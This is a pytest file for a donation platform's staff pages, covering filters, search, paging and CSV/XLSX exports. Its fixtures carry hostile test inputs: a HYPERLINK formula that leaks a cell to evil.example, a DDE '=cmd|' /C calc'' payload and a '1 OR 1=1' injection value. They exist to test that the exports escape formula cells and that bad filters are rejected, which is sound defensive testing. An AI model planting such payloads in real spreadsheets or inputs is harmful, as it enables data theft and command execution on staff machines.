"""Donations on the staff side: filters, search, pages, one donation's page, the CSV."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta
from decimal import Decimal

import pytest
from openpyxl import load_workbook
from sqlalchemy import insert, select

from campaigns.extensions import db
from campaigns.models import (
    Donation,
    LedgerKind,
    OutboxMessage,
    ProviderEvent,
    Receipt,
)
from campaigns.services.books.export import (
    EXPORT_BATCH,
    EXPORT_HEADER,
    XLSX_MIMETYPE,
    safe_cell,
)
from campaigns.services.books.ledger import post_entry
from tests.markup import parse
from tests.payments_fixtures import isolated

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def at(day: int, hour: int = 12) -> datetime:
    """A moment in March 2026, UTC (15:00 in Istanbul at hour 12)."""
    return datetime(2026, 3, day, hour, tzinfo=UTC)


@pytest.fixture
def donations(make_campaign, make_donation):
    food = make_campaign("food-aid", title="Food Aid", currency="TRY")
    wells = make_campaign("wells", title="Wells", currency="JPY", goal_amount=10_000_000)
    ayse = make_donation(
        food,
        1234_50,
        donor_name="Ayşe Yılmaz",
        donor_email="ayse@example.org",
        status="paid",
        provider_session_id="cs_test_ayse",
        provider_payment_id="pi_ayse_1",
        created_at=at(1),
    )
    john = make_donation(
        food,
        50_00,
        donor_name="John Smith",
        donor_email="john.smith@example.org",
        frequency="monthly",
        designation="zakat",
        provider_subscription_id="sub_john",
        created_at=at(5),
    )
    evil = make_donation(
        wells,
        5000,
        donor_name=HYPERLINK,
        donor_email="+cmd@example.org",
        status="failed",
        designation="sadaqah",
        created_at=at(9, hour=22),  # 01:00 on the 10th in Istanbul
    )
    db.session.add(
        Receipt(
            number="ERA-2026-000042",
            year=2026,
            sequence=42,
            donation=ayse,
            amount=ayse.amount,
            currency="TRY",
        )
    )
    db.session.commit()
    return ayse, john, evil


def names_listed(response) -> list[str]:
    assert response.status_code == 200
    return [
        td.find("a").text for td in parse(response.data).find_all("td", "donor") if td.find_all("a")
    ]


def flashes(response) -> list[str]:
    return [li.text for li in parse(response.data).find_all("li", "flash")]


@pytest.fixture
def viewer(client, staff_login):
    return staff_login(client, "viewer")


def test_the_list_shows_every_donation_newest_first(viewer, donations):
    response = viewer.get("/staff/donations")
    assert names_listed(response) == [HYPERLINK, "John Smith", "Ayşe Yılmaz"]
    assert parse(response.data).find("p", "result-count").text == "3 donations"


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        ("status=paid", ["Ayşe Yılmaz"]),
        ("status=failed", [HYPERLINK]),
        ("frequency=monthly", ["John Smith"]),
        ("designation=zakat", ["John Smith"]),
        ("designation=sadaqah", [HYPERLINK]),
        ("from=2026-03-05", [HYPERLINK, "John Smith"]),
        ("to=2026-03-05", ["John Smith", "Ayşe Yılmaz"]),
        ("from=2026-03-02&to=2026-03-09", ["John Smith"]),  # the 9th, 22:00 UTC is the 10th
        ("from=2026-03-10&to=2026-03-10", [HYPERLINK]),
        ("status=paid&frequency=monthly", []),
    ],
)
def test_filters(viewer, donations, query, expected):
    assert names_listed(viewer.get(f"/staff/donations?{query}")) == expected


def test_filter_by_campaign(viewer, donations):
    ayse, _, evil = donations
    assert names_listed(viewer.get(f"/staff/donations?campaign={evil.campaign_id}")) == [HYPERLINK]
    listed = names_listed(viewer.get(f"/staff/donations?campaign={ayse.campaign_id}"))
    assert listed == ["John Smith", "Ayşe Yılmaz"]


@pytest.mark.parametrize(
    ("search", "expected"),
    [
        ("smith", ["John Smith"]),  # part of a name, any case
        ("Yılmaz", ["Ayşe Yılmaz"]),
        ("AYSE@EXAMPLE", ["Ayşe Yılmaz"]),  # part of an e-mail
        ("ERA-2026-000042", ["Ayşe Yılmaz"]),  # receipt number
        ("era-2026-000042", ["Ayşe Yılmaz"]),
        ("ERA-2026-00004", []),  # receipt numbers match whole, not in part
        ("cs_test_ayse", ["Ayşe Yılmaz"]),
        ("pi_ayse_1", ["Ayşe Yılmaz"]),
        ("sub_john", ["John Smith"]),
        ("%", []),  # LIKE wildcards are plain characters here
        ("_", []),
        ("nobody", []),
    ],
)
def test_search(viewer, donations, search, expected):
    response = viewer.get("/staff/donations", query_string={"q": search})
    assert names_listed(response) == expected


def test_invalid_filters_are_ignored_with_a_message(viewer, donations):
    response = viewer.get(
        "/staff/donations?status=bogus&campaign=1%20OR%201=1&from=2026-13-01&to=0001-01-01"
        "&designation=paid&frequency=weekly"
    )
    assert response.status_code == 200
    assert flashes(response) == [
        "These filters were not valid and were ignored: campaign, status, designation, "
        "frequency, from date, to date."
    ]
    assert len(names_listed(response)) == 3


@pytest.mark.parametrize("query", ["q=%00", "q=" + "x" * 5000, "campaign=99999999999999999999"])
def test_odd_input_never_breaks_the_page(viewer, donations, query):
    assert viewer.get(f"/staff/donations?{query}").status_code == 200


def test_pages_of_fifty_keep_the_filters(viewer, make_campaign, make_donation):
    campaign = make_campaign("many")
    for n in range(51):
        make_donation(campaign, donor_name=f"Donor {n:02}", created_at=at(1) + timedelta(minutes=n))
    first = parse(viewer.get("/staff/donations?status=pending").data)
    assert first.find("p", "result-count").text == "51 donations"
    assert len(first.find_all("td", "donor")) == 50
    [next_link] = [a for a in first.find_all("a") if a.attrs.get("rel") == "next"]
    assert next_link.attrs["href"] == "/staff/donations?page=2&status=pending"
    assert names_listed(viewer.get(next_link.attrs["href"])) == ["Donor 00"]


@pytest.mark.parametrize("page", ["0", "abc", "-1", "2", "1.5", "9" * 30])
def test_a_page_that_does_not_exist_is_404(viewer, donations, page):
    assert viewer.get(f"/staff/donations?page={page}").status_code == 404


def test_the_csv_link_carries_the_filters(viewer, donations):
    page = parse(viewer.get("/staff/donations?status=paid&q=ayse").data)
    [link] = [a for a in page.find_all("a") if a.attrs["href"].startswith("/staff/donations.csv")]
    assert link.attrs["href"] == "/staff/donations.csv?status=paid&q=ayse"


# --- one donation ------------------------------------------------------------------------


def test_a_donations_page_shows_ledger_receipts_emails_and_events(viewer, donations):
    ayse = donations[0]
    post_entry(
        db.session,
        campaign=ayse.campaign,
        kind=LedgerKind.PAYMENT,
        amount=ayse.amount,
        currency="TRY",
        reference="ch_ayse_1",
        donation_id=ayse.id,
        donor_email=ayse.donor_email,
    )
    db.session.add_all(
        [
            OutboxMessage(
                key=f"thanks:{ayse.token}",
                donation_id=ayse.id,
                to=ayse.donor_email,
                subject="Thank you for your gift",
                body_text="Thank you.",
            ),
            ProviderEvent(
                provider="stripe",
                event_id="evt_ayse",
                type="checkout.session.completed",
                object_id="cs_test_ayse",
                donation_id=ayse.id,
                payload='{"data": {"object": {"id": "cs_test_ayse"}}}',
            ),
            ProviderEvent(
                provider="stripe",
                event_id="evt_john",
                type="invoice.paid",
                object_id="in_john",
                donation_id=donations[1].id,
                payload='{"data": {"object": {"subscription": "sub_john"}}}',
            ),
        ]
    )
    db.session.commit()
    response = viewer.get(f"/staff/donations/{ayse.id}")
    assert response.status_code == 200
    page = parse(response.data)
    assert page.find("h1").text == f"Donation {ayse.id}: ₺1,234.50"
    assert page.find("dd", "donor-name").text == "Ayşe Yılmaz"
    [ledger] = page.find_all("table", "ledger-table")
    assert [td.text for td in ledger.find_all("td")][1:] == [
        "Payment",
        "₺1,234.50",
        "0",
        "ch_ayse_1",
    ]
    [receipt] = page.find("ul", "receipt-list").find_all("a")
    token = db.session.scalar(select(Receipt.token).where(Receipt.donation_id == ayse.id))
    assert (receipt.text, receipt.attrs["href"]) == ("ERA-2026-000042", f"/receipts/{token}.pdf")
    text = page.text
    assert "Thank you for your gift" in text
    assert "evt_ayse" in text
    assert "evt_john" not in text


def test_an_unknown_donation_is_404(viewer, donations):
    assert viewer.get("/staff/donations/999999").status_code == 404


# --- CSV -----------------------------------------------------------------------------------


def csv_rows(response) -> list[list[str]]:
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    text = response.data.decode()
    assert text.startswith("\ufeff")  # Excel reads UTF-8 only after a byte-order mark
    return list(csv.reader(io.StringIO(text[1:]), delimiter=";"))


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Ayşe", "Ayşe"),
        ("a=b", "a=b"),
        (None, ""),
        (12, "12"),
    ],
)
def test_cells_that_a_spreadsheet_would_run_are_escaped(value, cell):
    assert safe_cell(value) == cell


def test_csv_export_has_a_header_amounts_in_major_units_and_safe_cells(viewer, donations):
    ayse, _, evil = donations
    response = viewer.get("/staff/donations.csv")
    assert response.headers["Content-Disposition"].startswith('attachment; filename="donations-')
    header, *rows = csv_rows(response)
    assert header == EXPORT_HEADER
    by_id = {int(row[0]): dict(zip(header, row, strict=True)) for row in rows}
    assert list(by_id) == [evil.id, donations[1].id, ayse.id]
    assert by_id[ayse.id]["amount"] == "1234.50"
    assert by_id[ayse.id]["currency"] == "TRY"
    assert by_id[ayse.id]["created_at"] == "2026-03-01T12:00:00+00:00"
    assert by_id[evil.id]["amount"] == "5000"  # yen have no minor unit
    assert by_id[evil.id]["currency"] == "JPY"
    assert by_id[evil.id]["donor_name"] == "'" + HYPERLINK
    assert by_id[evil.id]["donor_email"] == "'+cmd@example.org"


def test_csv_export_follows_the_filters(viewer, donations):
    rows = csv_rows(viewer.get("/staff/donations.csv?status=paid&q=ayse"))[1:]
    assert [row[EXPORT_HEADER.index("donor_name")] for row in rows] == ["Ayşe Yılmaz"]


def test_csv_export_with_an_invalid_filter_is_refused(viewer, donations):
    assert viewer.get("/staff/donations.csv?status=bogus").status_code == 400


def test_a_large_export_streams_in_batches(app, viewer, make_campaign):
    """5,000 rows arrive as 5 chunks of at most EXPORT_BATCH rows, written while the rows are
    read, not one body built in memory (peak memory is measured in the benchmark)."""
    campaign = make_campaign("big")
    db.session.execute(
        insert(Donation),
        [
            {
                "campaign_id": campaign.id,
                "amount": 100_00 + n,
                "currency": "TRY",
                "donor_name": f"Donor {n}",
                "donor_email": f"d{n}@example.org",
                "provider": "demo",
            }
            for n in range(5000)
        ],
    )
    db.session.commit()

    def export():
        response = viewer.client.get("/staff/donations.csv")
        assert response.is_streamed
        chunks = [chunk.decode() for chunk in response.response]
        response.close()
        return chunks

    chunks = isolated(export)
    assert len(chunks) == 1 + 5000 // EXPORT_BATCH  # the header, then one per batch
    rows = list(csv.reader(io.StringIO("".join(chunks)[1:]), delimiter=";"))
    assert len(rows) == 5001
    assert {row[EXPORT_HEADER.index("currency")] for row in rows[1:]} == {"TRY"}
    assert sum(int(row[EXPORT_HEADER.index("amount")].replace(".", "")) for row in rows[1:]) == (
        5000 * 100_00 + sum(range(5000))
    )


@pytest.fixture
def shares_gift(make_campaign, make_option, make_donation):
    """A paid gift of 3 sheep shares, each with the name it is given on behalf of."""
    campaign = make_campaign("qurban", title="Qurban")
    sheep = make_option(campaign, "Sheep share", unit_price=4500_00, units=1, stock=50)
    return make_donation(
        campaign,
        3 * 4500_00,
        option_id=sheep.id,
        quantity=3,
        units=3,
        donor_name="Ahmet Kaya",
        donor_email="ahmet@example.org",
        on_behalf=["Ahmet Kaya", "أحمد علي", "=cmd|' /C calc'!A0"],
        dedication="For my father",
        status="paid",
        created_at=at(2),
    )


def test_csv_export_has_the_option_shares_names_dedication_and_receipt(
    viewer, donations, shares_gift
):
    ayse = donations[0]
    header, *rows = csv_rows(viewer.get("/staff/donations.csv"))
    by_id = {int(row[0]): dict(zip(header, row, strict=True)) for row in rows}
    shares = by_id[shares_gift.id]
    assert (shares["option"], shares["quantity"], shares["units"]) == ("Sheep share", "3", "3")
    # Every name the Qurban team must read, the last one kept from running as a formula.
    assert shares["on_behalf"] == "Ahmet Kaya | أحمد علي | =cmd|' /C calc'!A0"
    assert shares["dedication"] == "For my father"
    assert shares["amount"] == "13500.00"
    assert by_id[ayse.id]["receipt_number"] == "ERA-2026-000042"
    assert by_id[ayse.id]["option"] == ""
    assert by_id[ayse.id]["refunded"] == "0.00"


def test_an_excel_formula_in_the_first_names_cell_is_escaped(viewer, shares_gift):
    db.session.get(Donation, shares_gift.id).on_behalf = ["=1+1", "Ali"]
    db.session.commit()
    header, row = csv_rows(viewer.get("/staff/donations.csv"))
    assert row[header.index("on_behalf")] == "'=1+1 | Ali"


def test_csv_export_splits_on_semicolons_for_turkish_excel(viewer, donations):
    first = viewer.get("/staff/donations.csv").data.decode().splitlines()[0]
    assert first == "\ufeff" + ";".join(EXPORT_HEADER)


def xlsx_rows(response) -> list[list[object]]:
    assert response.status_code == 200
    assert response.mimetype == XLSX_MIMETYPE
    assert response.headers["Content-Disposition"].endswith('.xlsx"')
    sheet = load_workbook(io.BytesIO(response.data)).active
    return [list(row) for row in sheet.iter_rows(values_only=True)]


def test_xlsx_export_has_typed_numbers_dates_and_text(viewer, donations, shares_gift):
    ayse, _john, evil = donations
    header, *rows = xlsx_rows(viewer.get("/staff/donations.xlsx"))
    assert header == EXPORT_HEADER
    by_id = {row[0]: dict(zip(header, row, strict=True)) for row in rows}
    assert list(by_id) == [evil.id, donations[1].id, shares_gift.id, ayse.id]
    assert by_id[ayse.id]["amount"] == Decimal("1234.5")  # a number, not text
    assert by_id[evil.id]["amount"] == 5000
    assert by_id[shares_gift.id]["quantity"] == 3
    # Dates are dates, in Istanbul's time (15:00 for 12:00 UTC).
    assert by_id[ayse.id]["created_at"] == datetime(2026, 3, 1, 15, 0)
    assert by_id[evil.id]["paid_at"] is None
    # Formula-like text is stored as text, never as a formula.
    assert by_id[evil.id]["donor_name"] == HYPERLINK
    assert by_id[shares_gift.id]["on_behalf"] == "Ahmet Kaya | أحمد علي | =cmd|' /C calc'!A0"
    assert by_id[ayse.id]["receipt_number"] == "ERA-2026-000042"


def test_xlsx_cells_are_typed_and_formulas_stay_text(viewer, donations):
    sheet = load_workbook(io.BytesIO(viewer.get("/staff/donations.xlsx").data)).active
    columns = {name: n + 1 for n, name in enumerate(EXPORT_HEADER)}
    evil_row = 2  # newest first
    assert sheet.cell(evil_row, columns["donor_name"]).data_type == "s"
    assert sheet.cell(evil_row, columns["amount"]).data_type == "n"
    assert sheet.cell(evil_row, columns["created_at"]).is_date
    assert sheet.cell(evil_row + 2, columns["amount"]).number_format == "#,##0.00"


def test_xlsx_export_follows_the_filters(viewer, donations):
    rows = xlsx_rows(viewer.get("/staff/donations.xlsx?status=paid&q=ayse"))[1:]
    assert [row[EXPORT_HEADER.index("donor_name")] for row in rows] == ["Ayşe Yılmaz"]
    assert viewer.get("/staff/donations.xlsx?status=bogus").status_code == 400


def test_xlsx_export_streams(viewer, donations):
    def export():
        response = viewer.client.get("/staff/donations.xlsx")
        assert response.is_streamed
        body = b"".join(response.response)
        response.close()
        return body

    assert isolated(export).startswith(b"PK")  # a zip file, sent in pieces
